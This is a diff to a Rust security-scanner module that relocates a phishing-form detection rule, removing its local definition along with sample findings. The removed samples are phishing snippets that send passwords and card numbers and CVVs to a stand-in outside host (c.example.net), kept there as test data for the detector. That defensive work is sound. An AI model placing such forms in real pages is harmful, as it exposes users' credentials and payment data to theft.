@@ -1,6 +1,9 @@
 //! Pages: what they load, where they lead, and what they ask for.
 
-use super::{Rule, forms};
+use super::{
+    Rule,
+    forms::{self, PHISHING},
+};
 use crate::guard::{
     fact::Call,
     found::Found,
@@ -37,32 +40,6 @@ pub static FOREIGN_SCRIPT: Rule = Rule {
             "<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script><script src=\"app.js\"></script><script src=\"/lib/a.js\"></script>",
         ),
         ("x.js", "import React from 'https://esm.sh/react@18'; img.src = 'https://picsum.photos/200';"),
-    ],
-};
-pub static PHISHING: Rule = Rule {
-    id: "page-phishing-form",
-    severity: Severity::Block,
-    why: "the form asks for secrets and sends them to another site",
-    remedy: "post the form to the app's own server",
-    finds: &[
-        (
-            "x.jsx",
-            "const go = () => fetch('https://c.example.net/in', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
-        ),
-        (
-            "x.html",
-            "<form action=\"https://c.example.net/l.php\" method=post><input name=u><input type=password name=p></form>",
-        ),
-        ("x.html", "<form><input type=password><button formaction=\"//c.example.net/\">in</button></form>"),
-        ("x.html", "<form action=https://c.example.net><input name=card_number><input name=cvv></form>"),
-    ],
-    spares: &[
-        (
-            "x.jsx",
-            "const go = () => fetch('/login', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
-        ),
-        ("x.html", "<form action=\"/login\" method=post><input type=password></form>"),
-        ("x.html", "<form action=\"https://formspree.io/f/x\"><input type=email name=email></form>"),
     ],
 };
 pub static REDIRECT: Rule = Rule {
